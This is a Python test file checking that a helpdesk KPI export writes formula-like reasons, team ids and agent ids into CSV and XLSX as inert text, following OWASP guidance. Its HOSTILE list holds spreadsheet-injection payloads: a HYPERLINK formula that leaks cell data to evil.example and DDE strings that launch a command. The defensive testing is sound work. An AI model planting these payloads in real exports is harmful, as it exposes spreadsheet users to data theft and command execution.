"""KPI exports neutralise formulas: a reason, team or agent id from a helpdesk that begins with
=, +, -, @, a tab or a carriage return is written as text, never as a live formula (OWASP)."""

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from tests.factories import AgentFactory, ContactFactory, TeamFactory
from tickets.formulas import csv_cell

URL = "/api/v1/kpis/repeat/"
PERIOD = {"from": "2024-03-01", "to": "2024-03-31"}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_history(db):
    for i, text in enumerate(HOSTILE):
        ContactFactory(
            reason=text,
            agent=AgentFactory(external_id=text, team=TeamFactory(external_id=f"{text}{i}")),
            started_at=datetime(2024, 3, 4, 9, tzinfo=UTC),
        )


HEADERS = {"reason": "Contact reason", "team": "Team", "agent": "Agent"}


def _after_header(rows: list, by: str) -> list:
    """The rows under the header (the title lines come first)."""
    first = [getattr(row[0], "value", row[0]) if row else None for row in rows]
    return rows[first.index(HEADERS[by]) + 1 :]


@pytest.mark.parametrize("by", ["reason", "team", "agent"])
def test_kpi_csv_export_writes_formula_like_ids_as_text(quality_manager, hostile_history, by):
    params = {**PERIOD, "by": by, "export": "csv"}
    response = quality_manager.get(URL, params, HTTP_ACCEPT_LANGUAGE="en")

    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = {row[0] for row in _after_header(rows, by)}
    assert len(cells) == len(HOSTILE), rows
    assert all(cell.startswith("'") for cell in cells), cells
    assert {cell[1:] for cell in cells} <= {*HOSTILE, *(f"{t}{i}" for i, t in enumerate(HOSTILE))}


@pytest.mark.parametrize("by", ["reason", "team", "agent"])
def test_kpi_xlsx_export_writes_formula_like_ids_as_text(quality_manager, hostile_history, by):
    params = {**PERIOD, "by": by, "export": "xlsx"}
    response = quality_manager.get(URL, params, HTTP_ACCEPT_LANGUAGE="en")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[0] for row in _after_header(list(sheet.iter_rows()), by)]
    assert len(cells) == len(HOSTILE)
    assert all(cell.data_type == "s" for cell in cells)  # "f" would be a live formula
    assert all(cell.quotePrefix for cell in cells)
    expected = {*HOSTILE, *(f"{t}{i}" for i, t in enumerate(HOSTILE))}
    # XML reads a carriage return back as a line feed.
    assert {cell.value.replace("\n", "\r") for cell in cells} <= expected


def test_plain_values_and_numbers_are_written_as_they_are():
    assert csv_cell("lyon_n1") == "lyon_n1"
    assert csv_cell(-12.5) == -12.5
    assert csv_cell("") == ""
